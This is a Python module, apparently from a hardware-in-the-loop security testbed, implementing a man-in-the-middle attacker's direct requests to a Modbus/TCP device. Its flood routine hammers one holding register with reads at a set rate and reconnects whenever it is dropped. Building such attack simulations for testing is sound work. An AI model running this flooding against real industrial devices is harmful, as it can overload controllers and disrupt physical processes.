"""Requests that a man in the middle sends to a device itself."""

from __future__ import annotations

import asyncio
import contextlib
import struct

from hil.mitm.attack import DeviceAttack
from hil.mitm.rules import FloodRule
from hil.mitm.session import DEVICE_SIDE
from hil.modbus.frames import frame
from hil.modbus.pcapng import Address, Capture, TcpStream
from hil.modbus.pdu import Table, read_request

_PATIENCE_S = 1.0
_TICK_S = 0.01
_RETRY_S = 0.2


class OwnClient:
    """A connection of the attacker's own, made for each request and closed again."""

    def __init__(self, target: Address, unit: int, capture: Capture | None) -> None:
        self._target, self._unit, self._capture = target, unit, capture
        self._tid = 0

    async def exchange(self, pdu: bytes, note: str) -> bytes:
        """Return the reply to a request; b'' where there is none."""
        stream: TcpStream | None = None
        writer: asyncio.StreamWriter | None = None
        self._tid = self._tid % 0xFFFF + 1
        try:
            async with asyncio.timeout(_PATIENCE_S):
                reader, writer = await asyncio.open_connection(*self._target)
                if self._capture is not None:
                    own, peer = (writer.get_extra_info(k) for k in ("sockname", "peername"))
                    stream = self._capture.stream(DEVICE_SIDE, own[:2], peer[:2])
                request = frame(self._tid, self._unit, pdu)
                writer.write(request)
                if stream is not None:
                    stream.data(True, request, note)
                head = await reader.readexactly(7)
                length = struct.unpack_from(">H", head, 4)[0]
                reply = await reader.readexactly(max(length - 1, 0))
                if stream is not None:
                    stream.data(False, head + reply)
                return reply
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            return b""
        finally:
            if stream is not None:
                stream.close()
            if writer is not None:
                writer.transport.abort()


async def flood(target: Address, unit: int, attack: DeviceAttack, rule: FloodRule) -> None:
    """Send reads of one register at a steady rate until cancelled; replies are discarded."""
    place = next((p.place for p in attack.points.values() if p.place.table == "holding"), None)
    address = place.address if place is not None else 0
    request = frame(1, unit, read_request(Table.holding, address, 1))
    loop = asyncio.get_running_loop()
    while True:
        writer = None
        try:
            reader, writer = await asyncio.open_connection(*target)
            drain = loop.create_task(_throw_away(reader))
            due, sent, begun_s = 0.0, 0, loop.time()
            while not drain.done():
                due = (loop.time() - begun_s) * rule.requests_per_s
                n = min(int(due) - sent, int(rule.requests_per_s * 10 * _TICK_S) + 1)
                if n > 0 and writer.transport.get_write_buffer_size() < 1 << 16:
                    writer.write(request * n)
                    attack.count(rule.step, n)
                sent = int(due)
                await asyncio.sleep(_TICK_S)
        except OSError:
            pass
        finally:
            if writer is not None:
                drain.cancel()
                writer.transport.abort()
        await asyncio.sleep(_RETRY_S)


async def _throw_away(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass
